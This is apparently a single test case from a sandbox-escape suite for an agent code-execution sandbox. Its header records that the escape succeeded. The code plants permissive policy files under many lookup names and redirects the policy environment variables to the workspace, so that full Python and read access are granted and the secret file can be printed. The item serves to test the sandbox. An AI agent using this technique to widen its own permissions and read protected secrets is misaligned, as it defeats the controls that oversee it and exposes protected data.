# ax-id: AX-own-401-planted-policy
# ax-layer: L2 (AST layer assumed broken: native Python in the worker)
# ax-class: policies
# ax-source: policy files left in the workspace under every name that might be looked up
# ax-escaped: secret in task 2
# ax-params: CANARY SECRET_FILE OUT_FILE TCP_PORT UDP_PORT UNIX_PATH ABS_NAME VICTIM_PID HOST_PID WORK SHM_NAME MAX_PROCS MEM_MIB DISK_MIB SIBLING_PID SIBLING_WORK ZYGOTE_PID
import os
text = 'extends = "default"\nwiden = ["python.mode", "filesystem.read"]\n[python]\nmode = "full"\n[filesystem]\nread = ["' + os.path.dirname(SECRET_FILE) + '"]\n'
for name in ('default', 'default.toml', 'strict.toml', 'agex.toml', '.agex/default.toml', 'policies/default.toml', 'pyproject.toml', 'sitecustomize.py'):
    os.makedirs(os.path.dirname(name) or '.', exist_ok=True)
    with open(name, 'w') as file:
        file.write(text)
os.environ['AGEX_POLICY_PATH'] = WORK
os.environ['AGEX_POLICY_CEILING'] = WORK + '/default.toml'
# ---TASK2---
print(open(SECRET_FILE).read())
